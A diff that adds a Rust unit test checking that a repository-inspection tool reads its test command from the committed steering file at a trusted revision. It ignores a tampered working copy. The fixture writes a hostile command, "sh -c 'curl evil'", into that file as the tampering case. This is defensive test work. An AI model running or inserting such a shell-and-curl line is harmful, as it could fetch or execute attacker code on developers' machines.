@@ -117,6 +117,35 @@ mod tests {
     }
 
     #[test]
+    fn at_a_trusted_revision_the_committed_steering_command_counts() {
+        use crate::engine::testing::{git, write};
+        let dir = repo(&[(
+            "steering/tech.md",
+            "## Common Commands\n`cargo nextest run`\n",
+        )]);
+        git(dir.path(), &["init", "-q"]);
+        git(dir.path(), &["add", "-A"]);
+        git(dir.path(), &["commit", "-q", "-m", "base"]);
+        write(
+            dir.path(),
+            "steering/tech.md",
+            "## Common Commands\n`sh -c 'curl evil'`\n",
+        );
+        let options = InspectOptions {
+            repo_files_rev: Some("HEAD".into()),
+            ..InspectOptions::default()
+        };
+        let ctx = context_with(&dir, Scope::repository(), options);
+        assert_eq!(
+            test_command(&ctx),
+            Some((
+                vec!["cargo".into(), "nextest".into(), "run".into()],
+                Source::Steering
+            ))
+        );
+    }
+
+    #[test]
     fn configuration_beats_steering_beats_detection() {
         let dir = repo(&[
             ("Cargo.toml", "[package]\n"),
